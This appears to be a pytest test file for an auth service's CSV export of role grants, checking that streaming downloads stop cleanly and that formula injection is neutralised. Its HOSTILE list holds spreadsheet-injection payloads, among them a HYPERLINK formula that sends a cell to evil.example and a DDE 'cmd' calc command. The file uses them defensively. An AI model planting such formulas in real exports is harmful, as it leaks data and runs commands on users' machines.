"""Lists as CSV: what a spreadsheet may be given, and a stream that holds nothing up and never looks whole when cut."""

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
import pytest
from structlog.testing import capture_logs

from auth_service.admin import csv_list, grants, holders
from tests.conftest import Fresh
from tests.support.access import create_role, grant, revoke
from tests.support.api import V1, Account, Api, Tokens, unique
from tests.support.people_lists import all_pages
from tests.support.served import served

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    *("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
    *('"quoted", with a comma', 'a "b"', '"', "'", "two\nlines", "two\r\nlines", ",", ";", " leading", ""),
    *("\u202egnp.exe", "\u200fשלום\u200e", "Анна, О’Коннор", "\u2028", "=", "A" * 5000),
]
MANY, LONG = 1000, 12_000


def read_csv(text: str) -> list[dict[str, str]]:
    """As RFC 4180 has it: strict, and every line has as many cells as the first."""
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert text.count("\r\n") >= len(rows) + 1
    assert text.endswith("\r\n")
    assert all(len(row) == len(header) for row in rows)
    return [dict(zip(header, row, strict=True)) for row in rows]


async def download(api: Api, caller: Tokens, path: str, **asked: Any) -> str:
    answer = await api.http.get(f"{V1}{path}", params={"format": "csv", **asked}, headers=caller.bearer)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    return answer.content.decode()


def expected(value: Any) -> str:
    text = "" if value is None else str(value)
    return f"'{text}" if text[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"} and text else text


async def test_hostile_names_are_read_as_they_are_and_never_as_formulas(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_list, "BATCH", 4)
    _, root = await api.as_role("superuser")
    role = await create_role(api, root, "films:publish")
    for name in HOSTILE:
        account = await api.create_user()
        await grant(api, root, account.id, role)
        await api.resources.hot.execute("UPDATE users SET full_name = $2 WHERE id = $1", account.id, name)
        await api.resources.hot.execute("UPDATE user_roles SET reason = $2 WHERE user_id = $1", account.id, name)
    listed = await all_pages(api, root, "/grants", role=role)
    assert [item["user"]["full_name"] for item in listed] == HOSTILE
    rows = read_csv(await download(api, root, "/grants", role=role))
    assert list(rows[0]) == list(grants.COLUMNS)
    assert rows == [
        {
            "user_id": item["user"]["id"],
            "login": item["user"]["login"],
            "email": item["user"]["email"],
            "full_name": expected(item["user"]["full_name"]),
            "role": role,
            "valid_from": item["valid_from"],
            "valid_until": "",
            "granted_by_id": item["granted_by"]["id"],
            "granted_by": item["granted_by"]["login"],
            "granted_at": item["granted_at"],
            "reason": expected(item["reason"]),
            "state": "active",
        }
        for item in listed
    ]
    rows = read_csv(await download(api, root, "/permissions/films:publish/users", role=role))
    assert list(rows[0]) == list(holders.COLUMNS)
    assert [row["full_name"] for row in rows] == [expected(name) for name in HOSTILE]
    assert not [cell for row in rows for cell in row.values() if cell[:1] in {*"=+-@\t\r\n"} and cell]


async def test_each_way_has_a_line(api: Api) -> None:
    _, root = await api.as_role("superuser")
    code = "films:publish"
    parent = await create_role(api, root, code, "films:*")
    role = await create_role(api, root, parents=(parent,))
    account = await api.create_user()
    for name in (parent, role):
        await grant(api, root, account.id, name)
    rows = read_csv(await download(api, root, f"/permissions/{code}/users"))
    found = {(row["role"], row["via"], row["pattern"]) for row in rows if row["id"] == str(account.id)}
    assert found == {(name, parent, pattern) for name in (parent, role) for pattern in (code, "films:*")}
    assert all(row["login"] for row in rows)


async def test_an_empty_list_is_its_heading(api: Api) -> None:
    _, root = await api.as_role("superuser")
    role = await create_role(api, root)
    assert await download(api, root, "/grants", role=role) == ",".join(grants.COLUMNS) + "\r\n"


@pytest.mark.parametrize("path", ["/grants", "/permissions/films:read/users"])
async def test_its_head_says_what_it_is(api: Api, path: str) -> None:
    _, root = await api.as_role("superuser")
    head = await api.http.head(f"{V1}{path}?format=csv", headers=root.bearer)
    assert (head.status_code, head.headers["content-type"], head.content) == (200, "text/csv; charset=utf-8", b"")


# --- the stream


@asynccontextmanager
async def long_list(fresh: Fresh) -> AsyncIterator[tuple[Api, Tokens, Account, Tokens, str]]:
    """Of more than sockets hold: the API, a superuser, an admin, and where the app is served."""
    api = await fresh.api()
    _, root = await api.as_role("superuser")
    admin, tokens = await api.as_role("admin")
    await api.resources.hot.execute(
        "INSERT INTO users (id, login, login_key, email, email_key, password_hash) SELECT"
        " gen_random_uuid(), 'many' || n, 'many' || n, n || '@example.com', n || '@example.com', 'x'"
        " FROM generate_series(1, $1::int) AS numbers (n)",
        MANY,
    )
    await api.resources.hot.execute(
        "INSERT INTO user_roles (user_id, role_name, reason)"
        " SELECT id, 'viewer', repeat('x', $1::int) FROM users WHERE login LIKE 'many%'",
        LONG,
    )
    async with served(api.app) as base:
        yield api, root, admin, tokens, f"{base}{V1}/grants?format=csv&role=viewer"


async def collect(pieces: AsyncIterator[bytes], into: list[bytes]) -> None:
    async for piece in pieces:
        into.append(piece)


async def until(holds: Any) -> None:
    for _ in range(1000):
        if holds():
            return
        await asyncio.sleep(0.02)
    raise AssertionError


@pytest.mark.long
async def test_a_long_stream_holds_no_connection_and_ends_with_its_client(
    fresh: Fresh, monkeypatch: pytest.MonkeyPatch
) -> None:
    written = []
    write = csv_list._written
    monkeypatch.setattr(csv_list, "_written", lambda rows: written.append(1) or write(rows))
    monkeypatch.setattr(csv_list, "BATCH", 20)
    async with long_list(fresh) as (api, _, _, admin, url), httpx.AsyncClient(trust_env=False, timeout=30) as http:
        engine, hot = api.resources.engine, api.resources.hot
        with capture_logs() as logged:
            async with http.stream("GET", url, headers=admin.bearer) as answer:
                pieces = answer.aiter_raw()
                assert (await anext(pieces)).startswith(b"user_id,")
                waiting = -1
                while waiting != len(written):  # until nothing more fits into the sockets
                    waiting = len(written)
                    await asyncio.sleep(0.3)
                assert 1 < waiting < MANY / 20
                assert engine.pool.checkedout() == hot.slots.taken == 0  # type: ignore[attr-defined]
            await until(lambda: [entry for entry in logged if entry.get("path") == f"{V1}/grants"])
        assert len(written) <= waiting + 1
        whole = await http.get(url, headers=admin.bearer)
        assert len(read_csv(whole.text)) >= MANY


async def test_what_is_cut_does_not_look_whole(fresh: Fresh, monkeypatch: pytest.MonkeyPatch) -> None:
    """Here since the admin is one no more: nobody gets more of a list than while they may see it."""
    monkeypatch.setattr(csv_list, "BATCH", 20)
    async with long_list(fresh) as (api, root, admin, tokens, url), httpx.AsyncClient(trust_env=False) as http:
        for cut in ("role", "session"):
            async with http.stream("GET", url, headers=tokens.bearer, timeout=30) as answer:
                assert answer.status_code == 200
                assert answer.headers["transfer-encoding"] == "chunked"
                pieces = answer.aiter_raw()
                got = [await anext(pieces)]
                if cut == "role":
                    assert (await revoke(api, root, admin.id, "admin")).status_code == 204
                else:
                    assert (await api.http.post(f"{V1}/auth/logout-all", headers=tokens.bearer)).status_code == 204
                with pytest.raises(httpx.RemoteProtocolError, match="without sending complete message body"):
                    await collect(pieces, got)
            text = b"".join(got).decode()
            assert text.endswith(csv_list.CUT)
            assert 0 < text.count("\r\n") < MANY
            with pytest.raises(csv.Error):
                read_csv(text)
            if cut == "role":
                await grant(api, root, admin.id, "admin")


async def test_a_list_goes_on_when_its_moment_has_passed(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    """That of the question holds for all batches, however long they take."""
    monkeypatch.setattr(csv_list, "BATCH", 1)
    _, root = await api.as_role("superuser")
    role = await create_role(api, root, "films:publish")
    accounts = [await api.create_user(login=unique("moment")) for _ in range(3)]
    for account in accounts:
        await grant(api, root, account.id, role)
    rows = read_csv(await download(api, root, "/permissions/films:publish/users", role=role))
    assert [row["id"] for row in rows] == [str(account.id) for account in accounts]
